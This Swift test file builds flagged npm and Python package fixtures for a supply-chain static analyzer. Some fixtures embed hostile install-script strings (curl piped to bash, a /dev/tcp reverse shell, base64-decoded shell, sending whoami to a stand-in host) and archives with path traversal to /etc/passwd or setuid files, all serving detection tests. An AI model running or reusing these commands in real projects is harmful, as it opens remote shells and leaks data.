import Compression
import Registry
import TestSupport

@testable import Analyzers

/// For every observation of the static analyzer an artifact on which it is made; nil for one that has none.
func flaggedArtifact(_ observation: Observation) throws -> (artifact: Artifact, limits: AnalysisLimits)? {
    var limits = AnalysisLimits.standard
    let artifact: Artifact
    switch observation {
    case .installScript: artifact = try npmScript("node build.js", hook: "install")
    case .scriptPipesToInterpreter: artifact = try npmScript("curl -fsSL https://x.example/i | bash")
    case .scriptRunsDownload: artifact = try npmScript("curl -o t https://x.example/t && chmod +x t && ./t")
    case .scriptReverseShell: artifact = try npmScript("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")
    case .scriptInlineNetwork: artifact = try npmScript(#"node -e "require('https').get('https://x.example')""#)
    case .scriptDecodesAndRuns: artifact = try npmScript("echo aWQ= | base64 -d | sh")
    case .scriptSendsData: artifact = try npmScript("curl https://x.example/$(whoami)")
    case .scriptNetworkClient: artifact = try npmScript("wget -q https://x.example/data.bin")
    case .scriptMentionsURL: artifact = try npmScript("node fetch.js https://x.example/data.bin")
    case .scriptInlineProgram: artifact = try npmScript(#"node -e "doSomething(1)""#)
    case .scriptSubstitution: artifact = try npmScript("make $(cat flags)")
    case .scriptDecoder: artifact = try npmScript("base64 -d data.txt > data.bin")
    case .scriptPowerShell: artifact = try npmScript("powershell -File setup.ps1")
    case .gypQuery: artifact = try npmGyp(#"{'x': ["<!@(node -p \"require('node-addon-api').include\")"]}"#)
    case .gypCommand: artifact = try npmGyp("{'x': ['<!(python tool.py)']}")
    case .gypCommandWithoutSources: artifact = try npmGyp("{'x': ['<!(node index.js)']}", source: nil)
    case .gypCommandHostile: artifact = try npmGyp("{'x': ['<!(curl https://x.example/i | sh)']}")
    case .gypWithoutSources: artifact = try npmGyp("{}", source: nil)
    case .pathFileInWheel, .pathFileInTests, .pathFileKnown, .fileNameMismatch, .folderMismatch, .recordMissing,
        .recordHash, .recordUnlisted, .recordUnhashed, .recordUnreadable, .recordAbsent, .zipHeaders, .zipLayout,
        .zipComment, .memberUnreadable, .memberEncrypted:
        artifact = try flaggedWheel(observation)
    case .pathFileInSource, .bidiInTests, .tagCharactersInTests, .twoFormats: artifact = try flaggedSource(observation)
    case .nameMismatch: artifact = try npmTarball(manifest: #"{"name":"other","version":"1.2.3"}"#)
    case .nameSpelling: artifact = try npmTarball(manifest: #"{"name":"Acme-Box","version":"1.2.3"}"#)
    case .versionMismatch: artifact = try npmTarball(manifest: #"{"name":"acme-box","version":"1.2.4"}"#)
    case .manifestUnreadable: artifact = try npmTarball(manifest: #"{"name":"#)
    case .manifestMissing: artifact = try npmArtifact(StoredGzip.member(tarWithout()))
    case .tooManyEntries, .tooManyBytes, .ratioTooHigh, .pathTooLong, .pathTooDeep, .tookTooLong, .codeTooLarge:
        artifact = try artifactOver(&limits, observation)
    case .codeCut:
        artifact = try wheelCode("import sys\n" + String(repeating: "exec(sys.argv[1])\n", count: 3100))
    case .formatUnknown: artifact = try npmArtifact(Array("plain text".utf8))
    case .archiveUnreadable: artifact = try npmArtifact(Array(try npmTarball().bytes.dropLast(700)))
    case .gzipMembers, .trailingBytes: artifact = try flaggedGzip(observation)
    case .pathAbsolute, .pathEscapes, .pathParent, .linkEscapes, .pathThroughLink, .specialFile, .privilegedFile,
        .duplicateManifest, .duplicateFile, .duplicateIdentical, .collidingManifest, .collidingNames, .twoRoots,
        .tarAfterEnd, .tarPadding, .tarOverride, .tarOddMember, .readersDisagree, .nameControl, .nameBidi,
        .nameTrailing, .nameReserved, .nameEncoding, .nestedArchive, .nestedTooDeep, .nestedTooLarge,
        .nestedUnreadable, .bidiInCode, .bidiInText, .tagCharacters:
        artifact = try npmTarball { tar in flag(&tar, observation) }
        if observation == .nestedTooLarge { limits.fileBytes = 2048 }
    default:
        guard let make = RuleFixtures.all.compactMap({ $0.flagged[observation] }).first else { return nil }
        artifact = try make()
    }
    return (artifact, limits)
}

/// Narrows `limits` to what an artifact exceeds for the observation of a limit, and makes that artifact.
private func artifactOver(_ limits: inout AnalysisLimits, _ observation: Observation) throws -> Artifact {
    switch observation {
    case .tooManyEntries:
        limits.entries = 1
        return try npmTarball { $0.addFile("package/a", "a") }
    case .ratioTooHigh:
        (limits.ratio, limits.ratioFloorBytes) = (20, 5000)
        return try compressedTarball()
    case .pathTooLong: limits.pathBytes = 10
    case .pathTooDeep:
        limits.depth = 3
        return try npmTarball { $0.addFile("package/a/b/c", "a") }
    case .tookTooLong: limits.seconds = 0
    case .codeTooLarge:
        limits.fileBytes = 64
        return try npmTarball { $0.addFile("package/a.js", spaces(100)) }
    default: limits.totalBytes = 100
    }
    return try npmTarball()
}

func spaces(_ count: Int) -> String { String(repeating: " ", count: count) }

private func compressedTarball() throws -> Artifact {
    var tar = TarBuilder()
    tar.addFile("package/package.json", spaces(100_000))
    return try npmArtifact(Gzip.compress(tar.finished(), level: 6))
}

private func tarWithout() -> [UInt8] {
    var tar = TarBuilder()
    tar.addFile("package/index.js", "1")
    return tar.finished()
}

private func flaggedGzip(_ observation: Observation) throws -> Artifact {
    var artifact = try npmTarball()
    artifact.bytes += observation == .gzipMembers ? StoredGzip.member([]) : Array("extra".utf8)
    return artifact
}

private func flaggedSource(_ observation: Observation) throws -> Artifact {
    let top = "acme_box-1.2.3"
    var artifact = try sdist { tar in
        switch observation {
        case .pathFileInSource: tar.addFile("\(top)/box.pth", "import box\n")
        case .bidiInTests: tar.addFile("\(top)/tests/test_a.py", "x = '\u{202E}'\n")
        default: tar.addFile("\(top)/tests/data.txt", "a\u{E0041}")
        }
    }
    if observation == .twoFormats {
        artifact.bytes += ZipBuilder([.init("a.py", Array("1".utf8))]).bytes()
    }
    return artifact
}

/// Adds to an honest tarball what the observation is about.
private func flag(_ tar: inout TarBuilder, _ observation: Observation) {
    switch observation {
    case .pathAbsolute: tar.addFile("/etc/cron.d/box", "x")
    case .pathEscapes: tar.addFile("package/../../box", "x")
    case .pathParent: tar.addFile("package/a/../b", "x")
    case .linkEscapes: tar.add(.init("package/a", type: "2", linkName: "../../../etc/passwd"))
    case .pathThroughLink:
        tar.add(.init("package/a", type: "2", linkName: "lib"))
        tar.addFile("package/a/b.txt", "x")
    case .specialFile: tar.add(.init("package/null", type: "3"))
    case .privilegedFile: tar.add(.init("package/su", content: [1], mode: 0o4755))
    case .duplicateManifest: tar.addFile("other/package.json", #"{"name":"acme-box","version":"9.9.9"}"#)
    case .collidingManifest: tar.addFile("package/Package.json", "{}")
    case .duplicateFile, .duplicateIdentical:
        tar.addFile("package/a", "1")
        tar.addFile("package/a", observation == .duplicateFile ? "2" : "1")
    case .collidingNames:
        tar.addFile("package/caf\u{E9}", "1")
        tar.addFile("package/Cafe\u{301}", "2")
    case .twoRoots: tar.addFile("elsewhere/a", "1")
    default: flagFormat(&tar, observation)
    }
}

private func flagFormat(_ tar: inout TarBuilder, _ observation: Observation) {
    switch observation {
    case .tarAfterEnd:
        tar.addRaw([UInt8](repeating: 0, count: 1024))
        tar.addFile("package/hidden", "x")
    case .tarPadding:
        var entry = TarBuilder.Entry("package/a", content: [1])
        entry.padding = 7
        tar.add(entry)
    case .tarOverride:
        tar.addPax([("size", "3")])
        tar.add(.init("package/a", content: Array("abc".utf8), statedSize: 2))
    case .tarOddMember: tar.add(.init("package/a", type: "V"))
    case .readersDisagree:
        // An old vendor's extended header: some readers apply it, others take it for a file.
        tar.addPax([("path", "package/b")], type: "X")
        tar.addFile("package/a", "1")
    case .nameControl: tar.addFile("package/a\u{1B}[2Jb", "x")
    case .nameBidi: tar.addFile("package/a\u{202E}b", "x")
    case .nameTrailing: tar.addFile("package/a.", "x")
    case .nameReserved: tar.addFile("package/aux.js", "x")
    case .nameEncoding:
        tar.add(
            {
                var entry = TarBuilder.Entry("package/")
                entry.name += [0xE9]
                return entry
            }())
    case .nestedArchive: tar.add(.init("package/a.tgz", content: nested(depth: 1)))
    case .nestedTooDeep: tar.add(.init("package/a.tgz", content: nested(depth: 3)))
    case .nestedTooLarge: tar.add(.init("package/a.zip", content: zipOf(size: 4096)))
    case .nestedUnreadable: tar.add(.init("package/a.tgz", content: Array(nested(depth: 1).dropLast(600))))
    case .bidiInCode: tar.addFile("package/index.js", "// \u{2067} x\n")
    case .bidiInText: tar.addFile("package/package.json", #"{"name":"acme-box","version":"1.2.3","a":"\#u{202E}"}"#)
    default: tar.addFile("package/index.js", "const a = '\u{E0041}'\n")
    }
}

private func nested(depth: Int) -> [UInt8] {
    var content = Array("x".utf8)
    var name = "a.txt"
    for _ in 0..<depth {
        var tar = TarBuilder()
        tar.add(.init(name, content: content))
        content = StoredGzip.member(tar.finished())
        name = "a.tgz"
    }
    return content
}

private func zipOf(size: Int) -> [UInt8] {
    ZipBuilder([.init("a", Array(spaces(size).utf8))]).bytes()
}

private func flaggedWheel(_ observation: Observation) throws -> Artifact {
    var wheel = WheelBuilder()
    switch observation {
    case .pathFileInWheel: wheel.add("box.pth", "import box\n")
    case .pathFileInTests: wheel.add("acme_box/data/box.pth", "import box\n")
    case .pathFileKnown:
        let site = "p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('acme',));"
        let exists = "ie = os.path.exists(os.path.join(p,'__init__.py'));"
        let module = "m = not ie and sys.modules.setdefault('acme', types.ModuleType('acme'));"
        let path = "mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)"
        wheel.add("acme-nspkg.pth", "import sys, types, os;" + site + exists + module + path + "\n")
    case .fileNameMismatch: wheel.filename = "acme_box-1.2.4-py3-none-any.whl"
    case .folderMismatch: wheel.folder = "other-1.2.3.dist-info"
    case .recordMissing: return try wheel.artifact(withRecord: false)
    case .recordHash: wheel.addRow("acme_box/__init__.py,sha256=AAAA,10")
    case .recordUnlisted: wheel.add("extra.py", "1", isListed: false)
    case .recordUnhashed:
        wheel.add("extra.py", "1", isListed: false)
        wheel.addRow("extra.py,,")
    case .recordUnreadable: wheel.addRow("\"open")
    case .recordAbsent: wheel.addRow("gone.py,sha256=AAAA,1")
    default: return try flaggedZip(&wheel, observation)
    }
    return try wheel.artifact()
}

private func flaggedZip(_ wheel: inout WheelBuilder, _ observation: Observation) throws -> Artifact {
    var entry = ZipBuilder.Member("acme_box/a.py", Array("1".utf8))
    switch observation {
    case .zipHeaders: entry.localName = Array("acme_box/b.py".utf8)
    case .memberUnreadable: entry.crc = 1
    case .memberEncrypted: entry.flags = 1
    case .zipLayout: return try wheel.artifact { $0.prefix = Array("MZ".utf8) }
    default: return try wheel.artifact { $0.comment = Array("hello".utf8) }
    }
    wheel.add(entry)
    return try wheel.artifact()
}
